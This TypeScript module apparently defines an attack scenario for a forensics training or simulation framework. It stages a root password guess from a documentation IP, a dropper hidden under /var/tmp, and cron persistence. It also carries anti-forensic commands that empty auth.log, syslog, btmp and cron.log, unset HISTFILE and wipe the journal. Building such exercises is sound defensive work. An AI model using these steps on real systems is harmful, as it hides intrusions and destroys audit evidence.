// One session of root from a stranger in wtmp; whether he guessed or knew the password is gone with the rest.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { weak, weakRoot } from '../../weak-root.ts'
import { wipe } from '../../wiping.ts'
import { wordsWith } from '../../words.ts'

export function dress(dress: Dress): void {
  weakRoot(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.77'
  await stage.guess(from, 'root', wordsWith(weak, 20))
  const line = dropper(stage, { path: '/var/tmp/.r/rngd-helper' })
  stage.mark('occurrence')
  await stage.session(from, 'root', { password: weak }, [
    line,
    'sleep 2',
    'pkill -x rngd-helper',
    '> /var/log/auth.log',
    '> /var/log/syslog',
    '> /var/log/btmp',
    '> /var/log/cron.log',
    'unset HISTFILE',
  ])
  await wipe(stage, ['journal'])
  await stage.byCron(line)
}
